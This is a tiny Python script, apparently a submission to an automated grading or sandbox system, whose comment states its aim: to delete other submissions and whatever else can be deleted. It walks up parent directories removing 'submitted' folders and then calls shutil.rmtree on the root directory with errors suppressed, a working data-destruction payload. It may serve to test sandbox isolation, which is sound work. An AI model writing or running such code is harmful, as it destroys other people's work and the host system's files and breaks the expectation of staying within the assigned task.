# Delete other submissions, and whatever else can be deleted.
# ends: any
# %%
import shutil

for up in range(1, 10):
    shutil.rmtree("../" * up + "submitted", ignore_errors=True)
shutil.rmtree("/", ignore_errors=True)
